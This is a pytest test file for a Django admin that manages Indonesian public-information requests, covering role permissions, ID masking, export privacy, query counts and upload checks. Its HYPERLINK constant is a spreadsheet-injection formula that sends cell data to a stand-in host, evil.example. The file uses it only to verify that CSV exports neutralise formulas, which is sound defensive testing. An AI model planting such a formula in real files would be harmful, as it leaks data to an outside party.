"""The KIP admin: lists, processing through the services, report and the role matrix.

Only Editor PPID, Atasan PPID, Admin Portal and superusers see information
requests. Editor PPID extends, decides and delivers; the Atasan PPID answers
objections; neither sees the requester's full ID number, and no export or report
carries the requester's identity.
"""

import csv
import datetime
import io
from http import HTTPStatus
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from freezegun import freeze_time

from portal.roles import (
    ATASAN_PPID,
    EDITOR_PPID,
    MODERATOR_PENGADUAN,
    PETUGAS_OPD,
)
from ppid import services
from ppid.choices import (
    KeputusanPermohonan,
    PutusanKeberatan,
    StatusKeberatan,
    StatusPermohonan,
)
from ppid.models import PermohonanInformasi
from tests.factories import UserFactory, pdf_bytes
from tests.pengaduan.factories import PetugasFactory
from tests.ppid.factories import create_kip_request

pytestmark = pytest.mark.django_db

K = KeputusanPermohonan
EDITOR = "editor PPID"
ATASAN = "atasan PPID"
MODERATOR = "moderator pengaduan"
PUPR = "petugas OPD"
ANONYMOUS = "anonim"
ROLES = [EDITOR, ATASAN, MODERATOR, PUPR, ANONYMOUS]
PPID = {EDITOR, ATASAN}
DENIED = {HTTPStatus.NOT_FOUND, HTTPStatus.FORBIDDEN, HTTPStatus.FOUND}
NIK = "1205011203850001"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def make_user(role):
    return {
        EDITOR: lambda: PetugasFactory(username="ppid", role=EDITOR_PPID),
        ATASAN: lambda: PetugasFactory(username="atasan", role=ATASAN_PPID),
        MODERATOR: lambda: PetugasFactory(username="mod", role=MODERATOR_PENGADUAN),
        PUPR: lambda: PetugasFactory(
            username="pupr", role=PETUGAS_OPD, opd="dinas-pupr"
        ),
        ANONYMOUS: lambda: None,
    }[role]()


def client_for(client, role):
    user = make_user(role)
    if user:
        client.force_login(user)
    return client


def assert_denied(response):
    assert response.status_code in DENIED
    if response.status_code == HTTPStatus.FOUND:
        assert urlsplit(response["Location"]).path in {"/admin/", "/admin/login/"}


def detail_url(permohonan):
    return reverse("permohonan_informasi:inspect", args=[permohonan.pk])


def action_url(permohonan, action):
    return reverse("permohonan_informasi:action", args=[permohonan.pk, action])


@pytest.fixture
def editor_client(client):
    client.force_login(PetugasFactory(username="ppid", role=EDITOR_PPID))
    return client


@pytest.fixture
def atasan_client(client):
    client.force_login(PetugasFactory(username="atasan", role=ATASAN_PPID))
    return client


@pytest.fixture
def permohonan():
    return create_kip_request(
        nama="Budi Santoso", informasi_diminta="Salinan DPA Dinas Pendidikan 2026."
    )


@pytest.fixture
def objected():
    """A request refused in part, then objected to."""
    return create_kip_request(decided=K.DITOLAK, objection=True)


# The permission matrix.


@pytest.mark.parametrize("role", ROLES)
def test_the_list_and_export_show_requests_only_to_ppid_roles(client, role, permohonan):
    client = client_for(client, role)
    for query in ({}, {"export": "csv"}):
        response = client.get(reverse("permohonan_informasi:index"), query)
        if role in PPID:
            assert response.status_code == HTTPStatus.OK
            content = (
                b"".join(response.streaming_content) if query else response.content
            ).decode()
            assert permohonan.kode_lacak in content
        else:
            assert_denied(response)


@pytest.mark.parametrize("role", ROLES)
def test_the_detail_opens_only_for_ppid_roles(client, role, permohonan):
    response = client_for(client, role).get(detail_url(permohonan))
    if role in PPID:
        assert response.status_code == HTTPStatus.OK
        assert "Budi Santoso" in response.content.decode()
    else:
        assert_denied(response)


@pytest.mark.parametrize("role", ROLES)
def test_only_editor_ppid_may_extend_a_request(client, role, permohonan):
    response = client_for(client, role).post(
        action_url(permohonan, "perpanjang"),
        {"perpanjang-alasan": "Dokumen ada di tiga OPD."},
    )
    permohonan.refresh_from_db()
    if role == EDITOR:
        assert response.status_code == HTTPStatus.FOUND
        assert permohonan.status == StatusPermohonan.DIPERPANJANG
    else:
        assert_denied(response)
        assert permohonan.status == StatusPermohonan.DITERIMA


@pytest.mark.parametrize("role", ROLES)
def test_only_atasan_ppid_may_answer_an_objection(client, role, objected):
    response = client_for(client, role).post(
        action_url(objected, "jawab-keberatan"),
        {
            "jawab-keberatan-putusan": PutusanKeberatan.DITOLAK,
            "jawab-keberatan-tanggapan": "Pengecualian sudah tepat.",
        },
    )
    objected.keberatan.refresh_from_db()
    if role == ATASAN:
        assert response.status_code == HTTPStatus.FOUND
        assert objected.keberatan.status == StatusKeberatan.DIJAWAB
    else:
        assert_denied(response)
        assert objected.keberatan.status == StatusKeberatan.DIAJUKAN


@pytest.mark.parametrize("role", ROLES)
def test_objections_and_the_yearly_report_open_only_for_ppid_roles(
    client, role, objected
):
    client = client_for(client, role)
    for url in (
        reverse("keberatan_informasi:index"),
        reverse("laporan_kip:index"),
        reverse("laporan_kip:csv"),
        reverse("laporan_kip:pdf"),
    ):
        response = client.get(url)
        if role in PPID:
            assert response.status_code == HTTPStatus.OK, url
        else:
            assert_denied(response)


@pytest.mark.parametrize("role", [EDITOR, ATASAN])
def test_nobody_but_superusers_adds_copies_or_deletes_requests(
    client, role, permohonan
):
    client = client_for(client, role)
    assert_denied(client.get(reverse("permohonan_informasi:add")))
    assert_denied(
        client.get(reverse("permohonan_informasi:delete", args=[permohonan.pk]))
    )


# The list.


def test_the_list_marks_overdue_requests_with_an_icon_and_a_word(editor_client):
    with freeze_time(timezone.now() - datetime.timedelta(days=40)):
        late = create_kip_request()
    create_kip_request()
    html = editor_client.get(reverse("permohonan_informasi:index")).content.decode()
    assert html.count("Terlambat") == 1
    assert late.kode_lacak in html


def test_the_overdue_and_year_filters(editor_client):
    with freeze_time(timezone.now() - datetime.timedelta(days=400)):
        old = create_kip_request()
    recent = create_kip_request()
    index = reverse("permohonan_informasi:index")
    html = editor_client.get(index, {"terlambat": "true"}).content.decode()
    assert old.kode_lacak in html
    assert recent.kode_lacak not in html
    year = timezone.localdate(old.diterima_pada).year
    html = editor_client.get(index, {"tahun": year}).content.decode()
    assert old.kode_lacak in html
    assert recent.kode_lacak not in html or year == timezone.localdate().year


def test_the_export_has_no_requester_identity(editor_client, permohonan):
    response = editor_client.get(
        reverse("permohonan_informasi:index"), {"export": "csv"}
    )
    content = b"".join(response.streaming_content).decode()
    assert permohonan.kode_lacak in content
    for secret in ("Budi Santoso", NIK, "budi.santoso@example.com", "081298765432"):
        assert secret not in content


def test_the_export_shows_a_formula_like_request_as_text(editor_client):
    permohonan = create_kip_request(informasi_diminta=HYPERLINK)
    response = editor_client.get(
        reverse("permohonan_informasi:index"), {"export": "csv"}
    )
    content = b"".join(response.streaming_content).decode()
    row = next(
        row
        for row in csv.reader(io.StringIO(content))
        if row[0] == permohonan.kode_lacak
    )
    assert row[1] == "'" + HYPERLINK


def test_the_export_counts_working_days_to_decision_without_a_query_per_row(
    editor_client,
):
    index = reverse("permohonan_informasi:index")

    def export():
        with CaptureQueriesContext(connection) as queries:
            response = editor_client.get(index, {"export": "csv"})
            rows = list(
                csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
            )
        return rows, len(queries)

    with freeze_time("2026-03-02 10:00:00+07:00"):
        create_kip_request()
    with freeze_time("2026-03-06 10:00:00+07:00"):
        decided = PermohonanInformasi.objects.get()
        services.decide(decided, UserFactory(), K.DIBERIKAN_SELURUHNYA, "Terlampir.")
    rows, few = export()
    column = rows[0].index("Hari kerja sampai keputusan")
    assert next(row for row in rows if row[0] == decided.kode_lacak)[column] == "4"
    for _ in range(5):
        create_kip_request(decided=K.DITOLAK)
    _rows, many = export()
    assert many == few


def test_the_list_keeps_a_constant_number_of_queries(editor_client):
    create_kip_request(decided=K.DIBERIKAN_SELURUHNYA, objection=True)
    index = reverse("permohonan_informasi:index")
    with CaptureQueriesContext(connection) as before:
        editor_client.get(index)
    for _ in range(4):
        create_kip_request(decided=K.DITOLAK, objection=True)
        create_kip_request()
    with CaptureQueriesContext(connection) as after:
        editor_client.get(index)
    assert len(after) == len(before)


def test_the_objection_list_keeps_a_constant_number_of_queries(atasan_client):
    create_kip_request(decided=K.DITOLAK, objection=True)
    index = reverse("keberatan_informasi:index")
    with CaptureQueriesContext(connection) as before:
        atasan_client.get(index)
    for _ in range(4):
        create_kip_request(decided=K.DITOLAK, objection=True)
    with CaptureQueriesContext(connection) as after:
        response = atasan_client.get(index)
    assert len(after) == len(before)
    assert detail_url(PermohonanInformasi.objects.first()) in response.content.decode()


# The detail and the actions.


def test_the_detail_masks_the_id_number(editor_client, permohonan):
    html = editor_client.get(detail_url(permohonan)).content.decode()
    assert NIK not in html
    assert permohonan.nomor_identitas_tersamar in html
    assert "Salinan DPA Dinas Pendidikan 2026." in html


def test_the_detail_offers_editor_ppid_only_the_actions_of_the_status(
    editor_client, permohonan
):
    html = editor_client.get(detail_url(permohonan)).content.decode()
    assert action_url(permohonan, "perpanjang") in html
    assert action_url(permohonan, "putuskan") in html
    assert action_url(permohonan, "sampaikan") not in html


def test_a_request_is_extended_only_once(editor_client, permohonan):
    url = action_url(permohonan, "perpanjang")
    editor_client.post(url, {"perpanjang-alasan": "Dokumen ada di tiga OPD."})
    response = editor_client.post(
        url, {"perpanjang-alasan": "Sekali lagi."}, follow=True
    )
    assert "tidak tersedia" in response.content.decode()
    permohonan.refresh_from_db()
    assert permohonan.alasan_perpanjangan == "Dokumen ada di tiga OPD."


def test_a_refusal_without_a_pasal_17_ground_comes_back_with_the_answer_kept(
    editor_client, permohonan
):
    answer = "Dokumen memuat data pribadi penerima bantuan."
    consequence = "Membuka NIK penerima merugikan mereka."
    entries = permohonan.linimasa.count()
    response = editor_client.post(
        action_url(permohonan, "putuskan"),
        {
            "putuskan-keputusan": K.DITOLAK,
            "putuskan-jawaban": answer,
            "putuskan-uji_konsekuensi": consequence,
        },
    )

    # The action's page again, not a redirect: the service's error sits beside the
    # ground, and everything typed is still there.
    assert response.status_code == HTTPStatus.OK
    form = response.context["form"]
    assert "Pasal 17" in form.errors["dasar_penolakan"][0]
    assert list(form.errors) == ["dasar_penolakan"]
    html = response.content.decode()
    assert f"{answer}</textarea>" in html
    assert f"{consequence}</textarea>" in html
    assert f'<option value="{K.DITOLAK}" selected>' in html
    ground_field = html[
        html.index('for="id_putuskan-dasar_penolakan"') : html.index(
            '<select name="putuskan-dasar_penolakan"'
        )
    ]
    assert "Penolakan wajib menyebut dasar Pasal 17." in ground_field
    permohonan.refresh_from_db()
    assert permohonan.status == StatusPermohonan.DITERIMA
    assert permohonan.keputusan == ""
    assert permohonan.linimasa.count() == entries

    # Adding the ground is enough: nothing is typed again.
    response = editor_client.post(
        action_url(permohonan, "putuskan"),
        {
            "putuskan-keputusan": K.DITOLAK,
            "putuskan-jawaban": answer,
            "putuskan-uji_konsekuensi": consequence,
            "putuskan-dasar_penolakan": "h",
        },
    )
    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"] == detail_url(permohonan)
    permohonan.refresh_from_db()
    assert permohonan.keputusan == K.DITOLAK
    assert permohonan.jawaban == answer


def test_deciding_stores_the_cleaned_documents_then_delivery_is_recorded(
    editor_client, permohonan
):
    pdf = SimpleUploadedFile("dpa-2026.pdf", pdf_bytes(), "application/pdf")
    response = editor_client.post(
        action_url(permohonan, "putuskan"),
        {
            "putuskan-keputusan": K.DIBERIKAN_SEBAGIAN,
            "putuskan-jawaban": "Terlampir, tanpa data pribadi.",
            "putuskan-dasar_penolakan": "h",
            "putuskan-uji_konsekuensi": "Memuat NIK penerima bantuan.",
            "putuskan-dokumen": [pdf],
        },
    )
    assert response.status_code == HTTPStatus.FOUND
    permohonan.refresh_from_db()
    assert permohonan.keputusan == K.DIBERIKAN_SEBAGIAN
    dokumen = permohonan.dokumen.get()
    assert dokumen.judul == "dpa-2026"
    assert dokumen.content_type == "application/pdf"
    served = editor_client.get(
        reverse("permohonan_informasi:dokumen", args=[permohonan.pk, dokumen.pk])
    )
    assert served.status_code == HTTPStatus.OK
    assert "no-store" in served["Cache-Control"]

    editor_client.post(
        action_url(permohonan, "sampaikan"),
        {"sampaikan-disampaikan_pada": timezone.localdate().isoformat()},
    )
    permohonan.refresh_from_db()
    assert permohonan.status == StatusPermohonan.DISAMPAIKAN


def test_an_upload_that_is_not_a_pdf_or_image_is_refused(editor_client, permohonan):
    script = SimpleUploadedFile("jawaban.pdf", b"#!/bin/sh\necho hi\n")
    response = editor_client.post(
        action_url(permohonan, "putuskan"),
        {
            "putuskan-keputusan": K.DIBERIKAN_SELURUHNYA,
            "putuskan-jawaban": "Terlampir.",
            "putuskan-dokumen": [script],
        },
        follow=True,
    )
    assert "bukan" in response.content.decode()
    permohonan.refresh_from_db()
    assert permohonan.status == StatusPermohonan.DITERIMA
    assert not permohonan.dokumen.exists()


def test_atasan_ppid_sees_the_objection_and_its_answer_form(atasan_client, objected):
    html = atasan_client.get(detail_url(objected)).content.decode()
    assert "Permohonan ditolak dengan alasan pengecualian Pasal 17" in html
    assert action_url(objected, "jawab-keberatan") in html
    assert action_url(objected, "sampaikan") not in html


# The yearly report and the dashboard.


def test_the_yearly_report_shows_the_tables_and_downloads(editor_client, objected):
    year = timezone.localdate().year
    response = editor_client.get(reverse("laporan_kip:index"), {"tahun": year})
    html = response.content.decode()
    assert f"Laporan Layanan Informasi Publik Tahun {year}" in html
    assert "Penolakan menurut dasar pengecualian Pasal 17" in html
    assert f"{reverse('laporan_kip:pdf')}?tahun={year}" in html
    csv = editor_client.get(reverse("laporan_kip:csv"), {"tahun": year})
    assert csv["Content-Type"].startswith("text/csv")
    assert "Budi Santoso" not in csv.content.decode()
    pdf = editor_client.get(reverse("laporan_kip:pdf"), {"tahun": "bukan-tahun"})
    assert pdf.content.startswith(b"%PDF")


@pytest.mark.parametrize("role", ROLES)
def test_the_dashboard_panels_are_requests_for_the_editor_objections_for_the_atasan(
    client, role
):
    create_kip_request()
    response = client_for(client, role).get(reverse("wagtailadmin_home"))
    if role == ANONYMOUS:
        assert_denied(response)
        return
    html = response.content.decode()
    assert ("Permohonan melewati batas waktu" in html) == (role == EDITOR)
    assert ("Keberatan melewati batas waktu" in html) == (role == ATASAN)


def test_the_dashboard_panel_counts_with_constant_queries(editor_client):
    with freeze_time(timezone.now() - datetime.timedelta(days=40)):
        create_kip_request()
    home = reverse("wagtailadmin_home")
    with CaptureQueriesContext(connection) as before:
        editor_client.get(home)
    for _ in range(3):
        create_kip_request(decided=K.DITOLAK, objection=True)
    with CaptureQueriesContext(connection) as after:
        html = editor_client.get(home).content.decode()
    assert len(after) == len(before)
    assert "Diterima, belum diputuskan" in html
